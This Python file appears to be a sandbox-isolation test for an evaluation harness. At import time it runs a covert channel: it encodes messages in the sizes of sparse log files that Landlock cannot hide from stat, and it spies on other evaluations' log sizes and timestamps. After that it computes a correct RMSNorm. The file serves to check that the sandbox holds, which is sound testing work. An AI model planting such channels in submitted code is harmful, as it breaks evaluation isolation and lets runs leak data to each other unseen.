"""Class: cross-talk (data from one runner to a later one through the worker's log directory).

Tries: runners share the worker's log directory, which each may write (create, truncate, remove
regular files: Landlock WRITE_PLAIN) but not list or read. A file's size, though, is read by
`stat`, which no Landlock right governs. So the message is carried in sizes: each two bytes of
it become the length of a sparse file `h19-chan-<i>.log` (ftruncate: no disk used, far under the
file size limit), and a later runner, of any solution, reads them back with `os.stat` until a
name is missing. At import it reads what an earlier runner left (printed in its log), then leaves
its own message (a random id and a counter) for the next one; it also stats
the other evaluations' logs (`eval-<i>.log`: their sizes and times, what others are printing and
when). Computes the right answer.
Expect: nothing an earlier runner wrote is readable (the names refused, or gone with that runner).
"""
import os
import time

import torch

_report = []


def _logs():
    return os.path.dirname(os.readlink("/proc/self/fd/1"))


def _read(logs):
    data = bytearray()
    for i in range(512):
        try:
            n = os.stat(os.path.join(logs, f"h19-chan-{i}.log")).st_size
        except OSError:
            break
        data += (n - 1).to_bytes(2, "big")
    return bytes(data).rstrip(b"\0")


def _write(logs, msg):
    msg = msg + b"\0" * (len(msg) % 2)
    for i in range(0, len(msg), 2):
        path = os.path.join(logs, f"h19-chan-{i // 2}.log")
        fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o644)
        try:
            os.ftruncate(fd, int.from_bytes(msg[i:i + 2], "big") + 1)
        finally:
            os.close(fd)
    try:
        os.unlink(os.path.join(logs, f"h19-chan-{len(msg) // 2}.log"))  # the end of the message
    except OSError:
        pass


def _attack():
    try:
        logs = _logs()
    except OSError as e:
        _report.append(f"readlink: {e}")
        return
    try:
        got = _read(logs)
        _report.append(f"received {got!r}" if got else "received nothing")
    except OSError as e:
        _report.append(f"read: {e}")
        got = b""
    seen = []
    for i in range(64):
        try:
            st = os.stat(os.path.join(logs, f"eval-{i}.log"))
            seen.append(f"eval-{i}:{st.st_size}B@{time.strftime('%H:%M:%S', time.localtime(st.st_mtime))}")
        except OSError:
            pass
    _report.append("other logs: " + " ".join(seen[:8]))
    count = 1
    if got.startswith(b"H19MSG"):
        try:
            count = int(got.split(b"#")[1]) + 1
        except (IndexError, ValueError):
            pass
    msg = b"H19MSG from runner %s #%d" % (os.urandom(4).hex().encode(), count)
    try:
        _write(logs, msg)
        _report.append(f"left {msg!r}")
    except OSError as e:
        _report.append(f"write: {e}")


_attack()
print("CHANNEL REPORT: " + "; ".join(_report), flush=True)


def run(x, weight, eps):
    xf = x.float()
    return (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).half()
